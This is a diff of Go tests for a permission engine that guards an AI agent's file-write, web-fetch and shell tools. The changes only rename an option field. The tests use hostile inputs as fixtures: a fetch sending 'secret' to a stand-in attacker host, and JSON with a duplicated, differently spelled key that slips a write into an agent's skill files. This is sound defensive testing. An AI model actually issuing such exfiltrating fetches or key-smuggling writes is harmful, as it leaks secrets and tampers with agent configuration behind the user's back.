@@ -42,7 +42,7 @@ func TestHostileWritesToLoadedPlaces(t *testing.T) {
 		for _, grant := range [][]Rule{nil, mustRules(t, ActionAllow, "Edit", "Write", "Edit(**)", "Edit(/**)", "Write(//**)")} {
 			a := &recordingAsker{}
 			e := NewEngine(EngineOptions{Mode: mode, WorkDir: work, HomeDir: home, ConfigDir: cfgDir, Asker: a, FlagRules: grant,
-				FileTools: withBuiltins(func(name string) (tool.FileAccessor, bool) { return notebook, name == "NotebookEdit" })})
+				Tools: withBuiltins(func(name string) (tool.FileAccessor, bool) { return notebook, name == "NotebookEdit" })})
 			for _, p := range paths {
 				for _, call := range []struct {
 					tool string
@@ -71,7 +71,7 @@ func TestHostileWritesToLoadedPlaces(t *testing.T) {
 	}
 	// The same key twice, in two spellings, is not guessed at.
 	a := &recordingAsker{}
-	e := NewEngine(EngineOptions{FileTools: builtinFiles, Mode: Trust, WorkDir: work, HomeDir: home, Asker: a})
+	e := NewEngine(EngineOptions{Tools: builtinFiles, Mode: Trust, WorkDir: work, HomeDir: home, Asker: a})
 	raw := `{"file_path":"` + filepath.Join(work, ".claude", "skills", "x", "SKILL.md") + `","File_Path":"ok.txt","content":"x"}`
 	before := len(a.asked)
 	if d, err := e.Check(context.Background(), Request{Tool: "Write", Input: json.RawMessage(raw)}); err != nil || len(a.asked) == before {
@@ -103,7 +103,7 @@ func TestHardLinkedWriteTargetAsks(t *testing.T) {
 // allows, offering that domain; an allowed domain fetches.
 func TestExploreAsksPerHostForWebFetch(t *testing.T) {
 	a := &recordingAsker{}
-	e := NewEngine(EngineOptions{FileTools: builtinFiles, Mode: Explore, WorkDir: t.TempDir(), Asker: a,
+	e := NewEngine(EngineOptions{Tools: builtinFiles, Mode: Explore, WorkDir: t.TempDir(), Asker: a,
 		FlagRules: mustRules(t, ActionAllow, "WebFetch(domain:docs.example.com)")})
 	if got, _ := verdictOf(t, e, a, "WebFetch", map[string]string{"url": "https://evil.example.net/?k=secret"}); got != "Q" {
 		t.Fatalf("explore fetch from a new host: got %s, want Q", got)
@@ -117,7 +117,7 @@ func TestExploreAsksPerHostForWebFetch(t *testing.T) {
 	if got, _ := verdictOf(t, e, a, "WebFetch", map[string]string{"url": "not a url"}); got != "D" {
 		t.Errorf("a URL without a host: got %s, want D", got)
 	}
-	n := NewEngine(EngineOptions{FileTools: builtinFiles, Mode: Normal, WorkDir: t.TempDir(), Asker: a})
+	n := NewEngine(EngineOptions{Tools: builtinFiles, Mode: Normal, WorkDir: t.TempDir(), Asker: a})
 	if got, _ := verdictOf(t, n, a, "WebFetch", map[string]string{"url": "https://example.com"}); got != "A" {
 		t.Errorf("normal mode fetch: got %s, want A", got)
 	}
@@ -147,7 +147,7 @@ func TestDenialHintsNameOnlyWhatApproves(t *testing.T) {
 		{Normal, "Bash", map[string]string{"command": "rm x"}, nil, []string{"--allowedTools 'Bash(rm x)'", "--permission-mode trust"}, true},
 	}
 	for _, c := range cases {
-		e := NewEngine(EngineOptions{FileTools: builtinFiles, Mode: c.mode, WorkDir: work, HomeDir: home})
+		e := NewEngine(EngineOptions{Tools: builtinFiles, Mode: c.mode, WorkDir: work, HomeDir: home})
 		d := check(t, e, c.tool, c.in)
 		if d.Behavior != Deny {
 			t.Errorf("%v in %s: %+v", c.in, c.mode, d)
@@ -168,7 +168,7 @@ func TestDenialHintsNameOnlyWhatApproves(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			again := NewEngine(EngineOptions{FileTools: builtinFiles, Mode: c.mode, WorkDir: work, HomeDir: home, FlagRules: rules})
+			again := NewEngine(EngineOptions{Tools: builtinFiles, Mode: c.mode, WorkDir: work, HomeDir: home, FlagRules: rules})
 			if d := check(t, again, c.tool, c.in); d.Behavior != Allow {
 				t.Errorf("%v in %s: the named flag does not approve it: %+v", c.in, c.mode, d)
 			}
